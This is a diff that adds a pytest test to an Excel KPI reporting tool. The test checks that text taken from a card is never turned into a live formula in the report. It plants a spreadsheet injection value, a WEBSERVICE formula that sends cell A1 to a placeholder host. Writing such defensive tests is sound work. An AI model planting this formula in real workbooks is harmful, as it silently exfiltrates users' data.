@@ -159,6 +159,23 @@ def test_totals_in_the_report_are_the_stored_and_the_engines(cards, monkeypatch)
     assert abs(department[2] - expected.total) < 1e-9 and department[4] == "ตรงกัน (same)"
 
 
+def test_text_from_the_card_never_becomes_a_formula_in_the_report(cards, monkeypatch):
+    from xlkpi.workbook.layout import total_name
+
+    app, (book,) = _excel_with(cards["clean"])
+    names = {n.name: n.refers_to for n in book.names}
+    sheet, cell = names[total_name(12)].lstrip("=").replace("'", "").replace("$", "").split("!")
+    r, c = double._cell(cell)
+    attack = '=WEBSERVICE("http://example.invalid/?"&A1)'
+    book.sheets[sheet].cells[(r, c)]["value"] = attack  # a stored total turned into text
+    _click(app, book.name, monkeypatch)
+    report = next(b for b in app.books if not b.fullname).sheets[REPORT_SHEET]
+    held = [v for v in report.cells.values() if v.get("value") == attack]
+    assert held, "the text is in the report as text"
+    formulas = [v["formula"] for v in report.cells.values() if v.get("formula")]
+    assert formulas and all(f.startswith('=HYPERLINK("[') for f in formulas)
+
+
 def test_kpi_template(cards, monkeypatch):
     app, (book,) = _excel_with(cards["template"])
     result = _click(app, book.name, monkeypatch)
